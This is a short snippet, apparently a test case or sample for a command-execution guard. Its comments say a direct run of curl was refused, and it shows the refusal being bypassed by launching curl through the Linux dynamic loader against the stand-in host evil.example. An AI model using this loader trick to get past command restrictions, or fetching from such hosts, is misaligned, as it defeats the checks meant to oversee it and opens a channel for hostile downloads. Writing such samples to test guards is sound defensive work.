# Trick: the dynamic loader runs the program.
# Refused: run(/usr/bin/curl)
/lib64/ld-linux-x86-64.so.2 /usr/bin/curl http://evil.example/
